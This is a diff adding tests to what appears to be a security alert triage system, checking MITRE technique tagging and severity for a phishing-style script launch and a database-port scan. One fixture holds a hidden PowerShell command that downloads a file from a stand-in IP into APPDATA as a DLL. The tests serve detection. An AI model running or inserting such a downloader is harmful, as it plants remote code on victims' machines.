@@ -2203,3 +2203,39 @@ def test_a_change_naming_the_program_whose_configuration_changed_names_the_file_
     threat, = factories.ingest_records("wazuh", [alert], acme)
     devops = AgentRun.objects.get(threat=threat, kind="devops").data
     assert bool(devops.get("same_service")) is names
+
+
+def _script_host_child(parent_command):
+    return {"@timestamp": "2026-11-30T08:41:12Z", "event.kind": "signal", "kibana.alert.uuid": f"wsh-{len(parent_command)}",
+            "kibana.alert.rule.name": "Windows Script Executing PowerShell", "kibana.alert.severity": "low",
+            "event": {"category": ["process"], "type": ["start"], "action": "start"},
+            "process": {"name": "powershell.exe", "command_line":
+                        "powershell.exe -nop -w hidden -c \"$u='http://198.51.100.77/c/inv.png';"
+                        "(New-Object Net.WebClient).DownloadFile($u,$env:APPDATA+'\\upd.dll')\"",
+                        "parent": {"name": "wscript.exe", "executable": "C:\\Windows\\System32\\wscript.exe",
+                                   "command_line": parent_command}},
+            "host": {"name": "ap-pc-07"}}
+
+
+@pytest.mark.parametrize("parent_command,opened", [
+    ('"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\l.pryce\\Downloads\\Remittance_Advice.js"', True),
+    ('"C:\\Windows\\System32\\WScript.exe" "\\\\fs01\\netlogon\\map-drives.vbs"', False),  # the logon script
+])
+def test_a_script_the_user_opened_that_starts_a_downloader_is_a_phishing_payload_running(parent_command, opened):
+    threat, = _ingest("ecs", _script_host_child(parent_command))
+    found = set(_techniques(threat))
+    assert "T1105" in found  # the URL comes first, in a variable the download call uses
+    assert ("T1204.002" in found) is opened and (threat.severity == "HIGH") is opened
+
+
+@pytest.mark.parametrize("port,back,band", [(5432, 873, "MEDIUM"), (5432, 60, "LOW"), (443, 5_000, "LOW")])
+def test_an_internet_probe_that_a_database_port_answers_shows_an_exposed_service(port, back, band):
+    record = _eve_sample()
+    record.update(src_ip="45.155.205.9", dest_ip="10.0.2.34", dest_port=port, proto="TCP")
+    record.pop("http", None)
+    record["alert"].update(signature=f"ET SCAN Suspicious inbound to port {port}", category="Potentially Bad Traffic",
+                           severity=3, metadata={})
+    record["flow"] = {"bytes_toserver": 420, "bytes_toclient": back, "pkts_toserver": 5, "pkts_toclient": 5}
+    threat, = _ingest("suricata", record)
+    assert threat.severity == band
+    assert ("exposed_service" in [f.get("rule") for f in threat.risk_factors]) is (band == "MEDIUM")
